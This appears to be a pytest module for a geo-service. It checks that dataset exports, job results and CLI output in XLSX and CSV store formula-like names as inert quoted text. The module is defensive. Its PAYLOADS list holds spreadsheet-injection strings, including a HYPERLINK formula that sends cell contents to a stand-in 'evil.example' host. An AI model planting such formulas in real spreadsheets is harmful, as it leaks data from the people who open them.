"""Names that look like formulas are inert in EVERY XLSX and CSV the service and CLI write.

A member, station, village, group, committee and township are named with spreadsheet-injection
payloads; every table export (dataset XLSX/CSV/Shapefile zip, in both languages, in-process and
over HTTP), the job results (CSV zip, one CSV, XLSX) and ``geo-service optimise --out`` (.xlsx and
a CSV folder) are opened and checked: no XLSX cell is a formula (payload cells are string cells
with the quote prefix) and no CSV cell starts with ``= + - @`` (OWASP: the cell starts with ``'``).
The payloads must still be there as text, so the test cannot pass by dropping them.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from conftest import make_tiny_layers
from geo_service.cli import app as cli_app
from geo_service.core.dataset import Dataset
from geo_service.core.io import read_dataset, write_dataset, write_table
from geo_service.core.io.sheets import FORMULA_START, guard, unguard
from test_api_support import client, hdr, make_app

PAYLOADS = ["=1+1", "+SUM(A1)", "-2+3", "@cmd", '=HYPERLINK("http://evil.example/?x="&A1)']
P = hdr("planner")


@pytest.fixture(scope="module")
def evil() -> Dataset:
    layers = make_tiny_layers()
    m = layers["members"]
    for i, p in enumerate(PAYLOADS):
        m.loc[i, "name"] = p
    layers["stations"].loc[0, "name"] = PAYLOADS[4]
    layers["stations"].loc[1, "name"] = PAYLOADS[0]
    v = layers["villages"]
    for i, p in enumerate(PAYLOADS):
        v.loc[i, "name"] = p
    v.loc[5, "name"] = "铃\x07村"  # a control character XML cannot hold
    layers["groups"].loc[0, "name"] = PAYLOADS[1]
    layers["committees"].loc[0, "name"] = PAYLOADS[2]
    layers["townships"].loc[0, "name"] = PAYLOADS[3]
    return Dataset.from_layers(layers, name="tiny")


# --- checks ----------------------------------------------------------------------------------------
def _is_number(s: str) -> bool:
    try:
        float(s)
        return True
    except ValueError:
        return False


def check_xlsx(data: bytes, where: str) -> set[str]:
    """No formula cell; text starting like a formula has the quote prefix. Returns the texts seen."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    seen: set[str] = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{where}: formula in {ws.title}!{c.coordinate}: {c.value!r}"
                if isinstance(c.value, str):
                    seen.add(c.value)
                    assert "\x07" not in c.value
                    if c.value.startswith(FORMULA_START):
                        assert c.data_type == "s" and c.quotePrefix, f"{where}: {ws.title}!{c.coordinate}"
    return seen


def check_csv(data: bytes, where: str) -> set[str]:
    """No cell starts with = + - @ (unless it is a number). Returns the cells, unguarded."""
    text = data.decode("utf-8-sig")
    seen: set[str] = set()
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not (cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not _is_number(cell)), \
                f"{where}: live cell {cell!r}"
            assert "\x07" not in cell
            seen.add(unguard(cell))
    return seen


def check_zip(data: bytes, where: str) -> set[str]:
    seen: set[str] = set()
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for n in zf.namelist():
            if n.endswith(".csv"):
                seen |= check_csv(zf.read(n), f"{where}/{n}")
            elif n.endswith(".xlsx"):
                seen |= check_xlsx(zf.read(n), f"{where}/{n}")
    return seen


def check_folder(folder: Path, where: str) -> set[str]:
    seen: set[str] = set()
    for p in sorted(folder.rglob("*")):
        if p.suffix == ".csv":
            seen |= check_csv(p.read_bytes(), f"{where}/{p.name}")
        elif p.suffix == ".xlsx":
            seen |= check_xlsx(p.read_bytes(), f"{where}/{p.name}")
    return seen


def assert_payloads(seen: set[str], where: str, which=PAYLOADS) -> None:
    missing = [p for p in which if p not in seen]
    assert not missing, f"{where}: payloads missing (dropped rather than made inert?): {missing}"


# --- the guard itself -------------------------------------------------------------------------------
@pytest.mark.parametrize("text", [*PAYLOADS, "\tx", "\r=1"])
def test_guard_prefixes_and_reader_undoes_it(text):
    g = guard(text)
    assert g.startswith("'") and unguard(g) == text
    assert guard("普通名称") == "普通名称" and guard(3.5) == 3.5


# --- dataset exports, in-process ----------------------------------------------------------------------
@pytest.mark.parametrize("lang", ["en", "zh"])
def test_dataset_exports_are_inert(evil, tmp_path, lang):
    x = write_dataset(evil, tmp_path / "d.xlsx", lang=lang)
    assert_payloads(check_xlsx(x.read_bytes(), f"xlsx {lang}"), f"xlsx {lang}")
    folder = write_dataset(evil, tmp_path / "csv", fmt="csv", lang=lang)
    assert_payloads(check_folder(folder, f"csv {lang}"), f"csv {lang}")
    shp = write_dataset(evil, tmp_path / "shp", fmt="shp", lang=lang)  # groups/committees as CSV
    assert_payloads(check_folder(shp, f"shp {lang}"), f"shp {lang}", [PAYLOADS[1], PAYLOADS[2]])
    for fmt in ("csv", "xlsx"):
        z = write_dataset(evil, tmp_path / f"z-{fmt}-{lang}.zip", fmt=fmt, lang=lang)
        assert_payloads(check_zip(z.read_bytes(), f"zip {fmt} {lang}"), f"zip {fmt} {lang}")
    # and they read back as the names they were (the CSV guard is undone on import)
    back = read_dataset(folder)
    assert set(PAYLOADS) <= set(back.members["name"]) | set(back.villages["name"])


def test_write_table_is_inert(evil):
    df = evil.members[["id", "name", "sector"]]
    assert_payloads(check_csv(write_table(df, None, "csv"), "write_table csv"), "write_table csv")
    assert_payloads(check_xlsx(write_table(df, None, "xlsx", lang="zh"), "write_table xlsx"), "write_table xlsx")


# --- over HTTP: dataset export and job results --------------------------------------------------------
def _wait(c, job_id):
    import time

    t0 = time.monotonic()
    while True:
        job = c.get(f"/v1/jobs/{job_id}", headers=P).json()
        if job["status"] in ("successful", "failed", "dismissed"):
            return job
        assert time.monotonic() - t0 < 60, job
        time.sleep(0.05)


def test_http_exports_and_job_results_are_inert(evil, tmp_path):
    with client(make_app(tmp_path / "data", evil)) as c:
        for lang in ("en", "zh"):
            r = c.get(f"/v1/datasets/tiny/export?format=xlsx&lang={lang}", headers=P)
            assert r.status_code == 200, r.text
            assert_payloads(check_xlsx(r.content, f"GET export xlsx {lang}"), f"GET export xlsx {lang}")
            for fmt in ("csv", "shp"):
                r = c.get(f"/v1/datasets/tiny/export?format={fmt}&lang={lang}", headers=P)
                assert r.status_code == 200, r.text
                check_zip(r.content, f"GET export {fmt} {lang}")
        r = c.post("/v1/datasets/tiny/optimisations", json={"time_limit_s": 20}, headers=P)
        assert r.status_code == 202, r.text
        job = _wait(c, r.json()["id"])
        assert job["status"] == "successful", job
        base = f"/v1/jobs/{job['id']}/results"
        for lang in ("en", "zh"):
            x = c.get(f"{base}?format=xlsx&lang={lang}", headers=P)
            assert x.status_code == 200
            assert_payloads(check_xlsx(x.content, f"results xlsx {lang}"), f"results xlsx {lang}")
            z = c.get(f"{base}?format=csv&lang={lang}", headers=P)
            assert_payloads(check_zip(z.content, f"results csv {lang}"), f"results csv {lang}")
            one = c.get(f"{base}?format=csv&table=responsibility&lang={lang}", headers=P)
            assert_payloads(check_csv(one.content, f"results responsibility csv {lang}"), "one csv", PAYLOADS)


# --- the CLI ---------------------------------------------------------------------------------------------
def test_cli_optimise_out_is_inert(evil, tmp_path):
    src = write_dataset(evil, tmp_path / "evil.gpkg")
    runner = CliRunner()
    for lang in ("zh", "en"):
        out = tmp_path / f"r-{lang}.xlsx"
        r = runner.invoke(cli_app, ["optimise", str(src), "--out", str(out), "--lang", lang,
                                    "--data-dir", str(tmp_path / "store")])
        assert r.exit_code == 0, r.output
        assert_payloads(check_xlsx(out.read_bytes(), f"cli xlsx {lang}"), f"cli xlsx {lang}")
        folder = tmp_path / f"csv-{lang}"
        r = runner.invoke(cli_app, ["optimise", str(src), "--out", str(folder), "--lang", lang,
                                    "--data-dir", str(tmp_path / "store")])
        assert r.exit_code == 0, r.output
        assert_payloads(check_folder(folder, f"cli csv {lang}"), f"cli csv {lang}")
